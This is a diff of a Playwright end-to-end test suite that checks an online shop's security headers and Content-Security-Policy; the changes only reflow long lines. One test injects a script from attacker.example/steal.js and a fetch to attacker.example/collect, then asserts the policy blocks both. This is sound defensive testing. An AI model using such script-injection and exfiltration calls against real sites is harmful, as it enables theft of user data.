@@ -1,7 +1,13 @@
 import { expect, test, type APIRequestContext, type ConsoleMessage, type Page } from '@playwright/test';
 import { firstItem } from '../lib/list';
 import { cartLink, codeFromOutbox, fixCurrency, gotoHydrated, uniqueMobile, useOwnClientAddress } from './helpers';
-import { CART_CONTINUE, DELIVERY_FIELD_LABELS, DELIVERY_HEADING, PAYMENT_METHOD_LABELS, PLACE_ORDER } from '../components/cart/cart-messages';
+import {
+  CART_CONTINUE,
+  DELIVERY_FIELD_LABELS,
+  DELIVERY_HEADING,
+  PAYMENT_METHOD_LABELS,
+  PLACE_ORDER,
+} from '../components/cart/cart-messages';
 
 /**
  * The security headers (docs/decisions/012-content-security-policy.md): on a
@@ -62,7 +68,10 @@ test.describe('security headers', () => {
 
     const api = await request.get('/api/get-all-category-list/');
     expect(api.status()).toBe(200);
-    expect(api.headers()).toMatchObject({ ...FIXED_HEADERS, 'content-security-policy': "default-src 'none'; frame-ancestors 'none'" });
+    expect(api.headers()).toMatchObject({
+      ...FIXED_HEADERS,
+      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
+    });
 
     const script = /<script src="(\/_next\/static\/[^"]+\.js)"/.exec(await firstItem(pages).text())?.[1];
     expect(script, 'a build script on the home page').toBeTruthy();
@@ -71,7 +80,11 @@ test.describe('security headers', () => {
     expect(asset.headers()).toMatchObject(FIXED_HEADERS);
   });
 
-  test('with the policy on, home, a product, the cart and a card payment raise no policy complaint', async ({ page, context, request }) => {
+  test('with the policy on, home, a product, the cart and a card payment raise no policy complaint', async ({
+    page,
+    context,
+    request,
+  }) => {
     const config = await (await request.get('/api/payments/config/')).json();
     expect(config.sandbox, 'the e2e server must run with the payment sandbox on').toBe(true);
     await useOwnClientAddress(context);
@@ -81,7 +94,13 @@ test.describe('security headers', () => {
 
     const mobile = uniqueMobile('7');
     const signup = await request.post('/api/signup/', {
-      data: { email: `headers${mobile}@example.com`, mobile_number: mobile, country_code: '+91', first_name: 'Meera', last_name: 'Rao' },
+      data: {
+        email: `headers${mobile}@example.com`,
+        mobile_number: mobile,
+        country_code: '+91',
+        first_name: 'Meera',
+        last_name: 'Rao',
+      },
     });
     expect(signup.status()).toBe(201);
 
@@ -133,10 +152,12 @@ test.describe('security headers', () => {
       document.head.appendChild(script);
       fetch('https://attacker.example/collect').catch(() => undefined);
     });
-    await expect.poll(() => complaints.filter((text) => text.startsWith('securitypolicyviolation')).sort()).toEqual([
-      'securitypolicyviolation connect-src https://attacker.example/collect',
-      'securitypolicyviolation script-src-elem https://attacker.example/steal.js',
-    ]);
+    await expect
+      .poll(() => complaints.filter((text) => text.startsWith('securitypolicyviolation')).sort())
+      .toEqual([
+        'securitypolicyviolation connect-src https://attacker.example/collect',
+        'securitypolicyviolation script-src-elem https://attacker.example/steal.js',
+      ]);
   });
 
   test('no other site can frame the cart', async ({ page, baseURL }) => {
